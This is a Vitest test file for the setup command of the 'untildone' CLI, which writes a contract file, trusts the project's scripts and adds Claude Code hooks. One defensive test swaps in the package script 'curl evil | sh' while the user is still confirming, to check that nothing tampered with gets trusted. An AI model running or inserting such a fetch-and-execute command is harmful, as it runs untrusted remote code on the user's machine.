import { existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test, vi } from 'vitest';
import type { HoldProof } from '../../../src/cli/setup/prove.ts';
import { setup } from '../../../src/cli/setup/setup.ts';
import type { SetupFlags } from '../../../src/cli/setup/setup-flags.ts';
import { createHome, homeAt } from '../../../src/engine/home/layout.ts';
import { openPorts } from '../../../src/engine/hook/wiring/ports.ts';
import type { ProjectPorts } from '../../../src/engine/hook/wiring/project-ports.ts';
import * as judgeBundle from '../../../src/main/judge.ts';
import { temporaryFolder } from '../../support/files/workers.ts';
import { initRepository } from '../../support/repository.ts';

let world: ProjectPorts;
let lines: string[];
let questions: string[];

beforeEach(() => {
  const folder = realpathSync(temporaryFolder());
  const home = homeAt(join(folder, 'user/.untildone'));
  createHome(home);
  const project = join(folder, 'project');
  mkdirSync(project);
  initRepository(project);
  for (const [name, value] of Object.entries({
    HOME: join(folder, 'user'),
    UNTILDONE_HOME: home.root,
    CLAUDECODE: '',
  }))
    vi.stubEnv(name, value);
  vi.spyOn(process, 'cwd').mockReturnValue(project);
  const env = { PATH: process.env.PATH, HOME: join(folder, 'user'), UNTILDONE_HOME: home.root };
  world = { ...openPorts(home, env, async () => judgeBundle), home, project, env };
  write('package.json', '{"scripts": {"test": "exit 0"}}');
  [lines, questions] = [[], []];
});

const write = (path: string, text: string) => writeFileSync(join(world.project, path), text);
const isThere = (path: string) => existsSync(join(world.project, path));

interface Person {
  answer: boolean;
  /** What happens while you think. */
  meanwhile?(): void;
  proof?: HoldProof;
}

function run({ answer, meanwhile, proof }: Person, more: Partial<SetupFlags> = {}): Promise<number> {
  const flags: SetupFlags = {
    yes: false,
    json: false,
    gates: false,
    proof: proof !== undefined,
    show: false,
    scope: 'project',
    ...more,
  };
  const terminal = {
    isThere: true,
    ask: async (question: string) => {
      questions.push(question);
      meanwhile?.();
      return answer;
    },
    out: (line: string) => void lines.push(line),
  };
  return setup(
    flags,
    world,
    terminal,
    async () => proof ?? Promise.reject(new Error('no proof was asked for')),
  );
}

describe('on a terminal', () => {
  test('one yes does all of it, and the second time nothing is asked', async () => {
    expect(await run({ answer: true })).toBe(0);
    expect(questions).toEqual([
      'Write untildone.yaml, trust exactly this on this machine and add the hooks?',
    ]);
    expect(isThere('untildone.yaml')).toBe(true);
    expect(readFileSync(join(world.project, '.claude/settings.json'), 'utf8')).toContain('hook.sh');
    expect(await run({ answer: false })).toBe(0);
    expect(questions).toHaveLength(1);
  });

  test('it asks only for what is missing', async () => {
    await run({ answer: true });
    write('package.json', '{"scripts": {"test": "exit 1"}}');
    expect(await run({ answer: true })).toBe(0);
    expect(questions.at(-1)).toBe('Trust exactly this on this machine?');
    expect(lines).toContain('Changed since you trusted it: script "test" of package.json');
  });

  test('a no does nothing, and says how to do it later', async () => {
    expect(await run({ answer: false })).toBe(1);
    expect(isThere('untildone.yaml')).toBe(false);
    expect(isThere('.claude')).toBe(false);
    expect(lines.slice(-2)).toEqual(['Nothing was done.', expect.stringMatching(/--accept [0-9a-f]{64}$/)]);
  });

  test('with --json nothing is asked', async () => {
    expect(await run({ answer: true }, { json: true })).toBe(1);
    expect(questions).toEqual([]);
    expect(JSON.parse(lines.join('\n'))).toMatchObject({ result: 'nothing_done', held: null });
  });
});

describe('only what was shown is trusted', () => {
  test.each<[string, () => void, string]>([
    [
      'a script',
      () => write('package.json', '{"scripts": {"test": "curl evil | sh"}}'),
      'was changed while you looked',
    ],
    ['a contract that appears', () => write('untildone.yaml', 'gates: { a: { run: evil } }\n'), 'just now'],
  ])('%s that is changed while you think', async (_, meanwhile, words) => {
    const hadContract = () =>
      isThere('untildone.yaml') && readFileSync(join(world.project, 'untildone.yaml'), 'utf8');
    await expect(run({ answer: true, meanwhile })).rejects.toThrow(words);
    expect([false, 'gates: { a: { run: evil } }\n']).toContain(hadContract());
    expect(isThere('.claude')).toBe(false);
    expect(existsSync(join(world.home.root, 'hook.sh'))).toBe(false);
  });
});

describe('the proof decides the exit code', () => {
  const client = { path: '/claude', source: 'PATH', version: '2.1.325' } as const;
  test.each<[HoldProof, number, RegExp, boolean | null]>([
    [{ outcome: 'held', client, ms: 2100 }, 0, /^Proven: Claude Code 2\.1\.325 was held .*2\.1 s/, true],
    [
      { outcome: 'not_held', cause: 'hooks_disabled', why: 'off', client },
      3,
      /^NOT HELD: Claude Code 2.* here: off\.$/,
      false,
    ],
    [{ outcome: 'unproven', cause: 'timed_out', why: 'slow' }, 3, /^Not proven: slow\.$/, null],
    [{ outcome: 'unproven', cause: 'no_client', why: 'none' }, 0, /^Not proven: none\.$/, null],
  ])('%j', async (proof, code, words, held) => {
    expect(await run({ answer: true, proof })).toBe(code);
    expect(lines).toContainEqual(expect.stringMatching(words));
    lines.length = 0;
    expect(await run({ answer: true, proof }, { json: true })).toBe(code);
    expect(JSON.parse(lines.join('\n'))).toMatchObject({ result: 'already_set_up', held, proof });
  });
});
